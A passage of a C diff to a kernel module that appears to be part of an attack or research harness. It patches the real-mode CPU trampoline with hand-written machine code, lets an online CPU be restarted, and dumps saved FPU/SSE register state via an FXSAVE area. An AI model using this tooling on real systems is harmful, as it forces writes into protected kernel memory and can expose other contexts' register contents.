@@ -15,13 +15,17 @@
 /* --- a CPU of our own ---------------------------------------------------------------------- */
 
 #define RESULT	0x200	/* in the page of the code */
+#define FXSAVE	0x240
+#define BLOB	2048
 
 /*
- * mov $0x40000000, %eax; cpuid; %cs: RESULT+4 .. +12 = ebx, ecx, edx; %cs: RESULT = 1;
+ * CR4.OSFXSR on; fxsave %cs:FXSAVE; mov $0x40000000, %eax; cpuid; %cs: RESULT+4 .. +12 = ebx, ecx, edx; %cs: RESULT = 1;
  * cli; hlt for ever. Sixteen-bit code.
  */
 static const u8 real_mode[] = {
 	0xfa,
+	0x0f, 0x20, 0xe0, 0x66, 0x0d, 0x00, 0x02, 0x00, 0x00, 0x0f, 0x22, 0xe0,
+	0x2e, 0x0f, 0xae, 0x06, 0x40, 0x02,
 	0x66, 0xb8, 0x00, 0x00, 0x00, 0x40, 0x0f, 0xa2,
 	0x2e, 0x66, 0x89, 0x1e, 0x04, 0x02,
 	0x2e, 0x66, 0x89, 0x0e, 0x08, 0x02,
@@ -45,13 +49,13 @@ static void init_and_start(u32 apic_id, u8 page)
 long platform_start_cpu(struct attack *a)
 {
 	struct real_mode_header **header = symbol("real_mode_header");
-	static u8 saved[1024], ours[1024];
+	static u8 saved[BLOB], ours[BLOB];
 	u8 *page;
 	volatile u32 *result;
 	unsigned int i;
 	u32 pa;
 
-	if (!header || a->in[0] >= nr_cpu_ids || cpu_online(a->in[0]))
+	if (!header || a->in[0] >= nr_cpu_ids || (cpu_online(a->in[0]) && !a->in[1]))
 		return -EINVAL;
 	pa = (*header)->trampoline_start;
 	if (pa & ~PAGE_MASK || pa >= SZ_1M)
@@ -66,6 +70,7 @@ long platform_start_cpu(struct attack *a)
 		mdelay(1);
 	for (i = 0; i < 4; i++)
 		a->out[i] = result[i];
+	a->out[4] = look_words(a->in[2], page + FXSAVE, 512);
 	write_anyway(page, saved, sizeof(saved));
 	return 0;
 }
